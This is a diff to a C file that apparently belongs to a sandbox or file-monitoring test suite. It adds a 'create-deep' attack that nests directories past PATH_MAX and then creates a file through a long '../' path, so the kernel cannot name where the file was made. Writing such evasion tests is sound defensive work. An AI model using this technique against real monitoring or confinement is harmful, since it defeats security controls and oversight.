@@ -41,6 +41,48 @@ static long file_create(char **argv)
 	return write_fd(open(argv[0], O_CREAT | O_EXCL | O_WRONLY, 0755));
 }
 
+#define STEPS 12
+
+/* A chain of directories below this one; the last one is where we are then. */
+static long make_chain(const char *first, const char *step)
+{
+	if (mkdir(first, 0755) || chdir(first))
+		return -EXDEV;
+	for (int i = 0; i < STEPS; i++)
+		if (mkdir(step, 0755) || chdir(step))
+			return -EXDEV;
+	return 0;
+}
+
+/*
+ * A file whose name begins in a directory deeper than PATH_MAX, of which the
+ * kernel has no name: one chain below the other, below a directory of "/".
+ */
+static long file_create_deep(char **argv)
+{
+	char step[201], path[4096] = "a", up[256] = "../", cwd[4096];
+
+	memset(step, 'd', sizeof(step) - 1);
+	step[sizeof(step) - 1] = '\0';
+	for (int i = 0; i < STEPS; i++) {
+		strcat(strcat(path, "/"), step);
+		strcat(up, "../../");
+	}
+	strcat(strcat(up, "../../"), argv[1]);
+	strcat(path, "/b");
+	if (chdir(argv[0]) || make_chain("a", step) || chdir(argv[0]) ||
+	    make_chain("b", step) || chdir(argv[0]) || rename("b", path) ||
+	    chdir(path))
+		return -EXDEV;
+	for (int i = 0; i < STEPS; i++)
+		if (chdir(step))
+			return -EXDEV;
+	if (syscall(SYS_getcwd, cwd, sizeof(cwd)) >= 0 ||
+	    errno != ENAMETOOLONG)
+		return -EXDEV;
+	return write_fd(open(up, O_CREAT | O_WRONLY, 0755));
+}
+
 /* Its name lies where the kernel reads it and process_vm_readv(2) does not. */
 static long file_create_hidden(char **argv)
 {
@@ -423,6 +465,7 @@ const struct attack attacks_files[] = {
 	{ "setxattr", 1, file_setxattr },
 	{ "utimes", 1, file_utimes },
 	{ "create-hidden", 1, file_create_hidden },
+	{ "create-deep", 2, file_create_deep },
 	{ "create-nowhere", 0, file_create_nowhere },
 	{ "truncate", 1, file_truncate },
 	{ "ftruncate", 1, file_ftruncate },
